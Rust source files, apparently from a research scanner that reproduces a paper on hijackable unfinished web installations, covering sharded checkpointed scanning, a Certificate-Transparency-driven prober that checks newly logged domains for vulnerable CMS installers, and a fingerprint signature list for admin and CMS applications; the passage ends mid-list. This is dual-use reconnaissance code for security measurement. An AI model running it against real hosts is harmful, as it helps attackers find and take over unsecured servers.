    (blocks.div_euclid(blocks_per_batch) + usize::from(blocks % blocks_per_batch != 0)) as u64
}

/// What a resume found at the base checkpoint path.
pub(crate) enum ResumeState {
    /// The stored prefix is the whole run: nothing left to scan.
    Finished {
        report: ScanReport,
        telemetry: TelemetrySnapshot,
    },
    /// Consolidated segments inherited from earlier generations.
    Inherited(Vec<ShardSegment>),
}

/// Load and consolidate prior-generation state at `path`: the legacy
/// base checkpoint (a `[0, batches_done)` prefix) plus every numbered
/// shard file. Shared by the in-process shard tier and the process-tier
/// coordinator so both resume with identical semantics.
pub(crate) fn load_resume_state(
    path: &Path,
    fingerprint: &ConfigFingerprint,
    total_batches: u64,
) -> Result<ResumeState, PipelineError> {
    let shard_files = existing_shard_files(path);
    let mut inherited: Vec<ShardSegment> = Vec::new();
    let mut have_state = false;
    if path.exists() {
        let cp = ScanCheckpoint::load(path)?;
        cp.validate(fingerprint)?;
        if cp.finished {
            // Warm resume: the stored prefix is the whole run.
            for f in &shard_files {
                let _ = std::fs::remove_file(f);
            }
            return Ok(ResumeState::Finished {
                report: cp.report,
                telemetry: cp.telemetry,
            });
        }
        if cp.batches_done > 0 {
            inherited.push(ShardSegment {
                start_batch: 0,
                end_batch: cp.batches_done,
                report: cp.report,
                telemetry: cp.telemetry,
            });
        }
        have_state = true;
    }
    for f in &shard_files {
        let cp = ShardCheckpoint::load(f)?;
        cp.validate(fingerprint, total_batches)?;
        inherited.extend(cp.segments);
        have_state = true;
    }
    if !have_state {
        return Err(PipelineError::Checkpoint(CheckpointError::Io(format!(
            "{path:?}: no checkpoint or shard files to resume from"
        ))));
    }
    let inherited = consolidate(inherited)?;
    // Persist the consolidated inheritance *before* any new worker
    // overwrites its numbered file, so a second kill cannot lose
    // prior-generation segments.
    if !inherited.is_empty() {
        ShardCheckpoint {
            format: SHARD_CHECKPOINT_FORMAT,
            fingerprint: fingerprint.clone(),
            total_batches,
            segments: inherited.clone(),
        }
        .save(&shard_base_path(path))?;
    }
    Ok(ResumeState::Inherited(inherited))
}

/// Remove every artifact of earlier runs at `path`. A fresh
/// checkpointed run starts from scratch: stale artifacts of earlier
/// runs must not bleed into a later resume.
pub(crate) fn clear_checkpoint_files(path: &Path) {
    let _ = std::fs::remove_file(path);
    for f in existing_shard_files(path) {
        let _ = std::fs::remove_file(f);
    }
}

/// Sort `segments` in place and verify their span is exactly
/// `[0, total_batches)`; interior gaps surface in [`merge_segments`].
pub(crate) fn check_full_coverage(
    segments: &mut [ShardSegment],
    total_batches: u64,
) -> Result<(), PipelineError> {
    segments.sort_by_key(|s| s.start_batch);
    let covered_from = segments.first().map_or(0, |s| s.start_batch);
    let covered_to = segments.last().map_or(0, |s| s.end_batch);
    if covered_from != 0 || covered_to != total_batches {
        return Err(PipelineError::SweepFailed(format!(
            "shard merge covers batches [{covered_from}, {covered_to}) of [0, {total_batches})"
        )));
    }
    Ok(())
}

/// Write one finished legacy checkpoint replacing the shard files, so a
/// later resume (sharded or not) warm-starts from the base path.
pub(crate) fn finalize_checkpoint(
    path: &Path,
    fingerprint: ConfigFingerprint,
    total_batches: u64,
    report: &ScanReport,
    telemetry: &Telemetry,
) -> Result<(), PipelineError> {
    ScanCheckpoint {
        format: CHECKPOINT_FORMAT,
        fingerprint,
        batches_done: total_batches,
        finished: true,
        report: report.clone(),
        telemetry: telemetry.snapshot(),
    }
    .save(path)?;
    for f in existing_shard_files(path) {
        let _ = std::fs::remove_file(f);
    }
    Ok(())
}

/// The shard engine behind [`Pipeline::run`] (`shards > 1`),
/// [`Pipeline::run_with_shard_stats`] and [`Pipeline::resume`].
///
/// `path` is the *base* checkpoint path (worker files hang off it);
/// `resume` selects whether existing state at that path is loaded or
/// cleared.
///
/// [`Pipeline::run`]: crate::pipeline::Pipeline::run
/// [`Pipeline::run_with_shard_stats`]: crate::pipeline::Pipeline::run_with_shard_stats
/// [`Pipeline::resume`]: crate::pipeline::Pipeline::resume
pub(crate) async fn run_sharded<T>(
    config: &PipelineConfig,
    telemetry: &Telemetry,
    client: &Client<T>,
    path: Option<&Path>,
    resume: bool,
    pacer_override: Option<SharedPacer>,
) -> Result<(ScanReport, ShardStats), PipelineError>
where
    T: Transport + Clone + 'static,
{
    assert!(config.blocks_per_batch > 0, "batch size must be positive");
    let shards = config.shards.max(1);
    let fingerprint = ConfigFingerprint::of(config);
    // Throwaway registry: this scanner only computes the shuffle and
    // the shared pacer. Workers sweep with their own staged scanners.
    let planner = PortScanner::with_telemetry(config.portscan.clone(), &Telemetry::new());
    let blocks = Arc::new(planner.shuffled_blocks());
    // An externally injected pacer (the job engine's chained
    // job→tenant→global budget) replaces the config-derived one; both
    // are shared across every worker so the bound stays whole-scan.
    let pacer = pacer_override.or_else(|| planner.pacer());
    let total_batches = batch_count(blocks.len(), config.blocks_per_batch);

    let mut inherited: Vec<ShardSegment> = Vec::new();
    if resume {
        let path = path.expect("resume requires a checkpoint path");
        match load_resume_state(path, &fingerprint, total_batches)? {
            ResumeState::Finished {
                report,
                telemetry: snapshot,
            } => {
                telemetry.absorb(&snapshot);
                return Ok((report, ShardStats::idle(shards)));
            }
            ResumeState::Inherited(segments) => inherited = segments,
        }
    } else if let Some(path) = path {
        clear_checkpoint_files(path);
    }

    let remaining = complement(&inherited, total_batches);
    let queue = Arc::new(WorkQueue::new(plan_initial_ranges(
        &remaining,
        shards as u64,
    )));
    // Workers live in a JoinSet owned by this future: aborting the
    // caller aborts every worker with it, so no orphan keeps sweeping
    // (or writing checkpoint files) after the run is gone.
    let mut join_set: tokio::task::JoinSet<(usize, Result<WorkerReport, PipelineError>)> =
        tokio::task::JoinSet::new();
    for worker in 0..shards {
        let runner = SegmentRunner::new(config, client, Arc::clone(&blocks), pacer.clone());
        let checkpoint = path.map(|p| WorkerCheckpoint {
            path: shard_worker_path(p, worker),
            every: config.checkpoint_every.max(1),
            fingerprint: fingerprint.clone(),
            total_batches,
        });
        let queue = Arc::clone(&queue);
        join_set.spawn(async move { (worker, drain_queue(runner, queue, checkpoint).await) });
    }
    let mut outputs: Vec<Option<WorkerReport>> = (0..shards).map(|_| None).collect();
    while let Some(joined) = join_set.join_next().await {
        let (worker, result) = joined.map_err(|e| PipelineError::SweepFailed(e.to_string()))?;
        outputs[worker] = Some(result?);
    }

    let mut stats = ShardStats {
        shards,
        steals: queue.steals.load(Ordering::Relaxed),
        batches_by_worker: Vec::with_capacity(shards),
        probes_by_worker: Vec::with_capacity(shards),
    };
    let mut segments = inherited;
    for output in outputs {
        let output = output.expect("every worker index joins exactly once");
        stats.batches_by_worker.push(output.batches_done);
        stats.probes_by_worker.push(output.probes_sent);
        segments.extend(output.segments);
    }
    check_full_coverage(&mut segments, total_batches)?;
    let report = merge_segments(telemetry, segments)?;

    if let Some(path) = path {
        finalize_checkpoint(path, fingerprint, total_batches, &report, telemetry)?;
    }
    Ok((report, stats))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn segment(start_batch: u64, end_batch: u64) -> ShardSegment {
        ShardSegment {
            start_batch,
            end_batch,
            report: ScanReport::default(),
            telemetry: Telemetry::new().snapshot(),
        }
    }

    #[test]
    fn consolidate_sorts_and_drops_contained_duplicates() {
        let merged = consolidate(vec![
            segment(8, 12),
            segment(0, 8),
            segment(0, 8),   // exact duplicate (numbered file + base)
            segment(2, 6),   // contained in [0, 8)
            segment(12, 12), // empty — dropped
        ])
        .expect("disjoint segments consolidate");
        let ranges: Vec<(u64, u64)> = merged
            .iter()
            .map(|s| (s.start_batch, s.end_batch))
            .collect();
        assert_eq!(ranges, vec![(0, 8), (8, 12)]);
    }

    #[test]
    fn consolidate_rejects_partial_overlap() {
        let err = consolidate(vec![segment(0, 8), segment(4, 12)]).unwrap_err();
        assert!(
            matches!(err, PipelineError::Checkpoint(CheckpointError::Corrupt(_))),
            "{err}"
        );
    }

    #[test]
    fn complement_fills_gaps_and_tail() {
        let covered = vec![segment(2, 4), segment(8, 10)];
        assert_eq!(complement(&covered, 12), vec![(0, 2), (4, 8), (10, 12)]);
        assert_eq!(complement(&[], 3), vec![(0, 3)]);
        assert_eq!(complement(&[segment(0, 3)], 3), Vec::<(u64, u64)>::new());
    }

    #[test]
    fn plan_splits_evenly_and_respects_fragments() {
        // 32 batches over 4 shards: four ranges of 8.
        assert_eq!(
            plan_initial_ranges(&[(0, 32)], 4),
            vec![(0, 8), (8, 16), (16, 24), (24, 32)]
        );
        // 10 batches over 4 shards: 3, 3, 2, 2.
        assert_eq!(
            plan_initial_ranges(&[(0, 10)], 4),
            vec![(0, 3), (3, 6), (6, 8), (8, 10)]
        );
        // Fewer batches than shards: one range each, never empty.
        assert_eq!(plan_initial_ranges(&[(0, 2)], 4), vec![(0, 1), (1, 2)]);
        // A quota straddling a fragment gap yields two queue entries.
        assert_eq!(
            plan_initial_ranges(&[(0, 2), (6, 8)], 2),
            vec![(0, 2), (6, 8)]
        );
        assert_eq!(
            plan_initial_ranges(&[(0, 3), (6, 7)], 2),
            vec![(0, 2), (2, 3), (6, 7)]
        );
        assert_eq!(plan_initial_ranges(&[], 4), Vec::<(u64, u64)>::new());
    }

    #[test]
    fn work_queue_hands_out_planned_ranges_then_steals() {
        let queue = WorkQueue::new(vec![(0, 8), (8, 16)]);
        let a = queue.take().expect("first planned range");
        let b = queue.take().expect("second planned range");
        assert_eq!(queue.claim(a), Some(0));
        assert_eq!(queue.claim(b), Some(8));
        assert_eq!(queue.steals.load(Ordering::Relaxed), 0);
        // Third taker must steal: range a has [1, 8) remaining (7), so
        // the thief gets the tail [4, 8).
        let c = queue.take().expect("steals from the largest remainder");
        assert_eq!(queue.steals.load(Ordering::Relaxed), 1);
        assert_eq!(queue.claim(c), Some(4));
        // The victim keeps claiming its shrunken head.
        assert_eq!(queue.claim(a), Some(1));
        // Drain everything; every batch is claimed exactly once.
        let mut seen = vec![0u32; 16];
        for &(rid, pre) in &[(a, vec![0u64, 1]), (b, vec![8]), (c, vec![4])] {
            for batch in pre {
                seen[batch as usize] += 1;
            }
            while let Some(batch) = queue.claim(rid) {
                seen[batch as usize] += 1;
            }
        }
        // Steal the dregs until nothing is left.
        while let Some(rid) = queue.take() {
            while let Some(batch) = queue.claim(rid) {
                seen[batch as usize] += 1;
            }
        }
        assert!(seen.iter().all(|&n| n == 1), "coverage: {seen:?}");
    }

    #[test]
    fn work_queue_can_steal_a_single_remaining_batch() {
        let queue = WorkQueue::new(vec![(0, 2)]);
        let a = queue.take().expect("planned range");
        assert_eq!(queue.claim(a), Some(0));
        // Remaining = 1; the thief takes it all, leaving the victim
        // empty (but its in-flight batch 0 untouched).
        let b = queue.take().expect("steals the last batch");
        assert_eq!(queue.claim(b), Some(1));
        assert_eq!(queue.claim(a), None);
        assert_eq!(queue.claim(b), None);
        assert!(queue.take().is_none());
    }

    #[test]
    fn shard_paths_and_discovery() {
        let dir = std::env::temp_dir().join(format!("nokeys-shard-disc-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let base = dir.join("scan.json");
        assert_eq!(
            shard_worker_path(&base, 3).file_name().unwrap(),
            "scan.json.shard-3"
        );
        assert_eq!(
            shard_base_path(&base).file_name().unwrap(),
            "scan.json.shard-base"
        );
        std::fs::write(shard_worker_path(&base, 0), b"x").unwrap();
        std::fs::write(shard_worker_path(&base, 1), b"x").unwrap();
        std::fs::write(shard_base_path(&base), b"x").unwrap();
        // Excluded: the base checkpoint itself, unrelated files, and
        // in-flight temp files.
        std::fs::write(&base, b"x").unwrap();
        std::fs::write(dir.join("other.json.shard-0"), b"x").unwrap();
        std::fs::write(extend_path(&shard_worker_path(&base, 2), ".tmp"), b"x").unwrap();
        let found = existing_shard_files(&base);
        let names: Vec<_> = found
            .iter()
            .map(|p| p.file_name().unwrap().to_str().unwrap().to_owned())
            .collect();
        assert_eq!(
            names,
            vec![
                "scan.json.shard-0",
                "scan.json.shard-1",
                "scan.json.shard-base"
            ]
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn shard_checkpoint_round_trip_and_validation() {
        let config = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()]).build();
        let fingerprint = ConfigFingerprint::of(&config);
        let cp = ShardCheckpoint {
            format: SHARD_CHECKPOINT_FORMAT,
            fingerprint: fingerprint.clone(),
            total_batches: 32,
            segments: vec![segment(4, 9)],
        };
        let path = std::env::temp_dir().join(format!(
            "nokeys-shard-roundtrip-{}.json.shard-0",
            std::process::id()
        ));
        cp.save(&path).expect("saves");
        let loaded = ShardCheckpoint::load(&path).expect("loads");
        assert_eq!(loaded.segments.len(), 1);
        assert_eq!(loaded.segments[0].start_batch, 4);
        assert!(loaded.validate(&fingerprint, 32).is_ok());
        // Wrong scan length is corruption, not a config mismatch.
        assert!(matches!(
            loaded.validate(&fingerprint, 64).unwrap_err(),
            CheckpointError::Corrupt(_)
        ));
        let other = PipelineConfig::builder(vec!["20.0.0.0/16".parse().unwrap()])
            .seed(999)
            .build();
        assert!(matches!(
            loaded
                .validate(&ConfigFingerprint::of(&other), 32)
                .unwrap_err(),
            CheckpointError::ConfigMismatch(_)
        ));
        let _ = std::fs::remove_file(&path);
    }

    #[test]
    fn merge_rejects_gaps() {
        let telemetry = Telemetry::new();
        let err = merge_segments(&telemetry, vec![segment(0, 4), segment(6, 8)]).unwrap_err();
        assert!(matches!(err, PipelineError::SweepFailed(_)), "{err}");
        assert!(merge_segments(&telemetry, vec![segment(4, 6), segment(0, 4)]).is_ok());
    }
}
