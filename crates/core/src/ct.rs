//! Certificate-Transparency-driven scanning (the paper's §6.2 warning).
//!
//! "Attackers could increase the likelihood to discover unsecured
//! applications and unfinished installations by using Certificate
//! Transparency (CT) logs to discover newly registered domains and scan
//! those preferably instead of a full sweep of the IPv4 space."
//!
//! This module implements that strategy: consume `(domain, ip, time)`
//! entries, probe each domain *by name* (`Host` header on the shared IP)
//! shortly after it appears in the log, and run the installation-hijack
//! plugins against it. Comparing its yield against the IP-wide sweep
//! quantifies the paper's "our results are a lower bound" claim.

use crate::plugin::detect_mav;
use nokeys_apps::AppId;
use nokeys_http::{Client, Endpoint, Request, Scheme, Transport, Url};
use serde::Serialize;
use std::net::Ipv4Addr;

/// A CT log entry as consumed by the scanner (mirrors
/// `nokeys_netsim::CtEntry` without depending on the simulation crate).
#[derive(Debug, Clone, Serialize)]
pub struct DomainTarget {
    pub domain: String,
    pub ip: Ipv4Addr,
    /// Seconds (since scan start) the entry appeared in the log.
    pub logged_at_secs: i64,
}

/// Result of probing one freshly logged domain.
#[derive(Debug, Clone, Serialize)]
pub struct CtFinding {
    pub domain: String,
    pub ip: Ipv4Addr,
    /// The CMS identified behind the name, if any.
    pub app: Option<AppId>,
    /// Whether the installation was still hijackable when probed.
    pub vulnerable: bool,
    /// Seconds since scan start when the probe ran.
    pub probed_at_secs: i64,
}

/// Fetch a path from a *named* virtual host: request goes to the IP, the
/// `Host` header carries the domain, and redirects are followed with the
/// header preserved.
pub async fn fetch_vhost<T: Transport>(
    client: &Client<T>,
    ip: Ipv4Addr,
    domain: &str,
    path: &str,
) -> Option<nokeys_http::Response> {
    let mut current = path.to_string();
    for _ in 0..client.config().max_redirects {
        let url = Url::for_ip(Scheme::Http, ip, 80, &current);
        let req = Request::get(current.clone()).with_header("Host", domain);
        let resp = client.execute(&url, req).await.ok()?;
        if let Some(location) = resp.location() {
            if resp.status.is_redirect() && location.starts_with('/') {
                current = location.to_string();
                continue;
            }
        }
        return Some(resp);
    }
    None
}

/// The four installation-hijack detection probes, addressed by name.
/// Returns `(app, vulnerable)` for the first CMS that answers.
pub async fn probe_domain<T: Transport>(
    client: &Client<T>,
    ip: Ipv4Addr,
    domain: &str,
) -> (Option<AppId>, bool) {
    // Identify the CMS from its root page signatures first.
    let Some(root) = fetch_vhost(client, ip, domain, "/").await else {
        return (None, false);
    };
    let body = crate::pattern::PreparedBody::new(root.body_str());
    let candidates =
        crate::signatures::match_candidates(&crate::signatures::all_signatures(), &body);
    let cms = candidates.into_iter().find(|app| {
        matches!(
            app,
            AppId::WordPress | AppId::Joomla | AppId::Drupal | AppId::Grav
        )
    });
    let Some(app) = cms else {
        return (None, false);
    };
    // Verify the hijackable state with the app's own plugin, addressed by
    // name. The vhost-aware client wrapper reuses `detect_mav` through a
    // Host-pinning transport adapter.
    let pinned = HostPinned {
        inner: client.transport(),
        domain: domain.to_string(),
    };
    let pinned_client = Client::with_config(pinned, client.config().clone());
    let vulnerable = detect_mav(&pinned_client, app, Endpoint::new(ip, 80), Scheme::Http).await;
    (Some(app), vulnerable)
}

/// Transport adapter that pins every request's `Host` header to a fixed
/// domain by rewriting the stream at connect time is not possible at the
/// byte level, so instead the adapter is a thin wrapper whose client
/// callers set the header; `detect_mav` goes through `Client::execute`,
/// which preserves caller headers — the pinning happens in
/// `PinnedConn`'s write path by rewriting the serialized `Host` line.
pub struct HostPinned<'a, T> {
    inner: &'a T,
    domain: String,
}

impl<'a, T: Transport> Transport for HostPinned<'a, T> {
    type Conn = PinnedConn<T::Conn>;

    async fn probe(&self, ep: Endpoint) -> nokeys_http::ProbeOutcome {
        self.inner.probe(ep).await
    }

    async fn connect(&self, ep: Endpoint, scheme: Scheme) -> nokeys_http::Result<Self::Conn> {
        let conn = self.inner.connect(ep, scheme).await?;
        Ok(Self::pin(conn, self.domain.clone()))
    }

    async fn connect_fresh(&self, ep: Endpoint, scheme: Scheme) -> nokeys_http::Result<Self::Conn> {
        let conn = self.inner.connect_fresh(ep, scheme).await?;
        Ok(Self::pin(conn, self.domain.clone()))
    }

    fn supports_reuse(&self) -> bool {
        self.inner.supports_reuse()
    }
}

impl<'a, T: Transport> HostPinned<'a, T> {
    fn pin(conn: T::Conn, domain: String) -> PinnedConn<T::Conn> {
        PinnedConn {
            conn,
            domain,
            head_buf: Vec::new(),
            out_queue: Vec::new(),
            header_done: false,
        }
    }
}

/// Connection wrapper rewriting the `Host:` header of each request head
/// that passes through. Bytes are buffered until the head is complete,
/// rewritten, then drained to the inner connection (tolerating partial
/// downstream writes).
pub struct PinnedConn<C> {
    conn: C,
    domain: String,
    head_buf: Vec<u8>,
    out_queue: Vec<u8>,
    header_done: bool,
}

impl<C: nokeys_http::transport::Connection> PinnedConn<C> {
    fn try_drain(&mut self, cx: &mut std::task::Context<'_>) -> std::io::Result<()> {
        while !self.out_queue.is_empty() {
            match std::pin::Pin::new(&mut self.conn).poll_write(cx, &self.out_queue) {
                std::task::Poll::Ready(Ok(n)) => {
                    self.out_queue.drain(..n);
                }
                std::task::Poll::Ready(Err(e)) => return Err(e),
                std::task::Poll::Pending => break,
            }
        }
        Ok(())
    }
}

impl<C: nokeys_http::transport::Connection> tokio::io::AsyncWrite for PinnedConn<C> {
    fn poll_write(
        mut self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
        buf: &[u8],
    ) -> std::task::Poll<std::io::Result<usize>> {
        let this = &mut *self;
        if this.header_done {
            if this.out_queue.is_empty() {
                return std::pin::Pin::new(&mut this.conn).poll_write(cx, buf);
            }
            this.out_queue.extend_from_slice(buf);
            this.try_drain(cx)?;
            return std::task::Poll::Ready(Ok(buf.len()));
        }
        this.head_buf.extend_from_slice(buf);
        if let Some(end) = this.head_buf.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&this.head_buf[..end]).into_owned();
            let rest = this.head_buf[end..].to_vec();
            let mut rewritten = String::new();
            for (i, line) in head.split("\r\n").enumerate() {
                if i > 0 && line.to_ascii_lowercase().starts_with("host:") {
                    rewritten.push_str(&format!("Host: {}", this.domain));
                } else {
                    rewritten.push_str(line);
                }
                rewritten.push_str("\r\n");
            }
            let mut wire = rewritten.trim_end_matches("\r\n").as_bytes().to_vec();
            wire.extend_from_slice(&rest);
            this.header_done = true;
            this.head_buf.clear();
            this.out_queue = wire;
            this.try_drain(cx)?;
        }
        std::task::Poll::Ready(Ok(buf.len()))
    }

    fn poll_flush(
        mut self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<std::io::Result<()>> {
        let this = &mut *self;
        this.try_drain(cx)?;
        if !this.out_queue.is_empty() {
            return std::task::Poll::Pending;
        }
        std::pin::Pin::new(&mut this.conn).poll_flush(cx)
    }

    fn poll_shutdown(
        mut self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<std::io::Result<()>> {
        std::pin::Pin::new(&mut self.conn).poll_shutdown(cx)
    }
}

impl<C: nokeys_http::transport::Connection> tokio::io::AsyncRead for PinnedConn<C> {
    fn poll_read(
        mut self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
        buf: &mut tokio::io::ReadBuf<'_>,
    ) -> std::task::Poll<std::io::Result<()>> {
        std::pin::Pin::new(&mut self.conn).poll_read(cx, buf)
    }
}

impl<C: nokeys_http::transport::Connection> nokeys_http::transport::Connection for PinnedConn<C> {
    fn certificate(&self) -> Option<nokeys_http::transport::CertificateInfo> {
        self.conn.certificate()
    }

    fn is_reused(&self) -> bool {
        self.conn.is_reused()
    }

    fn set_reusable(&mut self, reusable: bool) {
        if reusable {
            // Arm the rewriter for the next request head on this
            // (kept-alive) connection.
            self.header_done = false;
        }
        self.conn.set_reusable(reusable);
    }
}

/// Scan every logged domain `delay_secs` after it appears (the CT
/// watcher's reaction time), invoking `advance_clock` with the probe
/// time.
pub async fn ct_scan<T, F>(
    client: &Client<T>,
    entries: &[DomainTarget],
    delay_secs: i64,
    mut advance_clock: F,
) -> Vec<CtFinding>
where
    T: Transport,
    F: FnMut(i64),
{
    let mut sorted: Vec<&DomainTarget> = entries.iter().collect();
    sorted.sort_by_key(|e| (e.logged_at_secs, &e.domain));
    let mut findings = Vec::new();
    for entry in sorted {
        let probe_at = entry.logged_at_secs + delay_secs;
        advance_clock(probe_at);
        let (app, vulnerable) = probe_domain(client, entry.ip, &entry.domain).await;
        findings.push(CtFinding {
            domain: entry.domain.clone(),
            ip: entry.ip,
            app,
            vulnerable,
            probed_at_secs: probe_at,
        });
    }
    findings
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_http::memory::HandlerTransport;
    use nokeys_http::{Client, Response};
    use std::sync::Arc;

    /// Handler that echoes the Host header it received.
    struct HostEcho;
    impl nokeys_http::server::Handler for HostEcho {
        fn handle(&self, req: &Request, _peer: Ipv4Addr) -> Response {
            Response::text(req.headers.get("host").unwrap_or("none").to_string())
        }
    }

    #[tokio::test]
    async fn host_pinned_transport_rewrites_the_header() {
        let ep = Endpoint::new(Ipv4Addr::new(10, 20, 20, 20), 80);
        let inner = HandlerTransport::new().with(ep, Arc::new(HostEcho));
        let inner_client = Client::new(inner);
        let pinned = HostPinned {
            inner: inner_client.transport(),
            domain: "pinned.example".into(),
        };
        let client = Client::new(pinned);
        // The client writes `Host: 10.20.20.20`; the pinned connection
        // rewrites it on the wire.
        let fetched = client.get_path(ep, Scheme::Http, "/").await.unwrap();
        assert_eq!(fetched.response.body_text(), "pinned.example");
    }

    #[tokio::test]
    async fn host_pinned_handles_requests_with_bodies() {
        struct BodyEcho;
        impl nokeys_http::server::Handler for BodyEcho {
            fn handle(&self, req: &Request, _peer: Ipv4Addr) -> Response {
                Response::text(format!(
                    "{}|{}",
                    req.headers.get("host").unwrap_or("none"),
                    req.body_text()
                ))
            }
        }
        let ep = Endpoint::new(Ipv4Addr::new(10, 20, 20, 21), 80);
        let inner = HandlerTransport::new().with(ep, Arc::new(BodyEcho));
        let inner_client = Client::new(inner);
        let pinned = HostPinned {
            inner: inner_client.transport(),
            domain: "d.example".into(),
        };
        let client = Client::new(pinned);
        let url = Url::for_ip(Scheme::Http, ep.ip, ep.port, "/x");
        let resp = client
            .execute(&url, Request::post("/x", "payload-body"))
            .await
            .unwrap();
        assert_eq!(resp.body_text(), "d.example|payload-body");
    }

    #[tokio::test]
    async fn fetch_vhost_follows_relative_redirects_with_host() {
        struct Redirecting;
        impl nokeys_http::server::Handler for Redirecting {
            fn handle(&self, req: &Request, _peer: Ipv4Addr) -> Response {
                match req.path() {
                    "/" => Response::redirect("/installer"),
                    "/installer" => Response::text(format!(
                        "installer for {}",
                        req.headers.get("host").unwrap_or("none")
                    )),
                    _ => Response::not_found(),
                }
            }
        }
        let ep = Endpoint::new(Ipv4Addr::new(10, 20, 20, 22), 80);
        let transport = HandlerTransport::new().with(ep, Arc::new(Redirecting));
        let client = Client::new(transport);
        let resp = fetch_vhost(&client, ep.ip, "fresh.example", "/")
            .await
            .unwrap();
        assert_eq!(resp.body_text(), "installer for fresh.example");
    }

    #[tokio::test]
    async fn probe_domain_handles_unknown_sites() {
        let ep = Endpoint::new(Ipv4Addr::new(10, 20, 20, 23), 80);
        let transport = HandlerTransport::new().with(ep, Arc::new(HostEcho));
        let client = Client::new(transport);
        let (app, vulnerable) = probe_domain(&client, ep.ip, "whatever.example").await;
        assert_eq!(app, None);
        assert!(!vulnerable);
    }
}
