//! The prefilter signature set: 90 hand-crafted patterns, five per
//! in-scope application (Section 3.1, Stage II).
//!
//! A signature matching a response body marks the host as *running* the
//! application (whether or not it is vulnerable — that is Stage III's
//! job). Five signatures per product cover different page variants
//! (dashboards, login walls, installers, API error envelopes) across the
//! supported version range.

use crate::pattern::{Pattern, PreparedBody};
use nokeys_apps::AppId;

/// A prefilter signature.
#[derive(Debug, Clone)]
pub struct Signature {
    pub app: AppId,
    pub pattern: Pattern,
}

/// The full signature set (90 signatures, 5 × 18 applications).
pub fn all_signatures() -> Vec<Signature> {
    let mut out = Vec::with_capacity(90);
    let mut add = |app: AppId, patterns: [Pattern; 5]| {
        out.extend(
            patterns
                .into_iter()
                .map(|pattern| Signature { app, pattern }),
        );
    };

    add(
        AppId::Jenkins,
        [
            Pattern::exact("Dashboard [Jenkins]"),
            Pattern::exact("Jenkins ver."),
            Pattern::exact("jenkins-head-icon"),
            Pattern::exact("hudson.model"),
            Pattern::exact("Sign in - Jenkins"),
        ],
    );
    add(
        AppId::Gocd,
        [
            Pattern::exact("Create a pipeline - Go"),
            Pattern::exact("pipelines-page"),
            Pattern::exact("/go/admin/pipelines"),
            Pattern::exact("cruise gocd"),
            Pattern::exact("Sign in - GoCD"),
        ],
    );
    add(
        AppId::WordPress,
        [
            Pattern::exact("wp-json"),
            Pattern::exact("wp-content"),
            Pattern::exact("wp-includes"),
            Pattern::exact("content=\"WordPress"),
            Pattern::exact("WordPress &rsaquo;"),
        ],
    );
    add(
        AppId::Grav,
        [
            Pattern::exact("Powered by Grav"),
            Pattern::exact("getgrav.org"),
            Pattern::exact("grav-core"),
            Pattern::exact("content=\"GravCMS"),
            Pattern::exact("/user/themes/"),
        ],
    );
    add(
        AppId::Joomla,
        [
            Pattern::exact("Joomla! - Open Source Content Management"),
            Pattern::exact("/media/jui/"),
            Pattern::exact("joomla-script-options"),
            Pattern::exact("Joomla! Web Installer"),
            Pattern::exact("/templates/protostar/"),
        ],
    );
    add(
        AppId::Drupal,
        [
            Pattern::exact("Drupal.settings"),
            Pattern::exact("data-drupal"),
            Pattern::exact("/sites/default/files"),
            Pattern::exact("drupal.js"),
            Pattern::exact("content=\"Drupal"),
        ],
    );
    add(
        AppId::Kubernetes,
        [
            Pattern::exact("certificates.k8s.io"),
            Pattern::exact("healthz/ping"),
            Pattern::exact("system:anonymous"),
            Pattern::nospace("\"kind\":\"Status\""),
            Pattern::exact("k8s.io"),
        ],
    );
    add(
        AppId::Docker,
        [
            Pattern::exact("{\"message\":\"page not found\"}"),
            Pattern::exact("Client sent an HTTP request to an HTTPS server"),
            Pattern::nocase("minapiversion"),
            Pattern::nocase("kernelversion"),
            Pattern::exact("No such container"),
        ],
    );
    add(
        AppId::Consul,
        [
            Pattern::exact("Consul by HashiCorp"),
            Pattern::exact("CONSUL_VERSION:"),
            Pattern::exact("consul-ui"),
            Pattern::exact("data-consul"),
            Pattern::exact("\"Datacenter\""),
        ],
    );
    add(
        AppId::Hadoop,
        [
            Pattern::exact("/static/yarn.css"),
            Pattern::exact("Apache Hadoop"),
            Pattern::nocase("resourcemanager"),
            Pattern::nocase("logged in as: dr.who"),
            Pattern::exact("hadoopVersion"),
        ],
    );
    add(
        AppId::Nomad,
        [
            Pattern::exact("<title>Nomad</title>"),
            Pattern::exact("nomad-ui"),
            Pattern::exact("data-nomad"),
            Pattern::exact("nomad-version"),
            Pattern::exact("/ui/assets/nomad"),
        ],
    );
    add(
        AppId::JupyterLab,
        [
            Pattern::exact("JupyterLab"),
            Pattern::exact("/lab/static/"),
            Pattern::exact("@jupyterlab"),
            Pattern::exact("jupyterlab-session"),
            Pattern::exact("data-app=\"@jupyterlab"),
        ],
    );
    add(
        AppId::JupyterNotebook,
        [
            Pattern::exact("Jupyter Notebook"),
            Pattern::exact("/static/notebook/"),
            Pattern::exact("nbextensions"),
            Pattern::exact("ipython"),
            Pattern::exact("data-app=\"notebook\""),
        ],
    );
    add(
        AppId::Zeppelin,
        [
            Pattern::exact("Apache Zeppelin"),
            Pattern::exact("zeppelinWebApp"),
            Pattern::exact("zeppelin-web"),
            Pattern::exact("/app/home/home.html"),
            Pattern::exact("\"message\":\"Zeppelin version\""),
        ],
    );
    add(
        AppId::Polynote,
        [
            Pattern::exact("<title>Polynote</title>"),
            Pattern::exact("polynote-config"),
            Pattern::exact("data-polynote"),
            Pattern::exact("id=\"Main\" data-polynote"),
            Pattern::exact(">polynote<"),
        ],
    );
    add(
        AppId::Ajenti,
        [
            Pattern::exact("Sign in - Ajenti"),
            Pattern::exact("ajentiPlatformUnmapped"),
            Pattern::exact("customization.plugins.core.title"),
            Pattern::exact("angular.module('ajenti"),
            Pattern::exact("Ajenti control panel"),
        ],
    );
    add(
        AppId::PhpMyAdmin,
        [
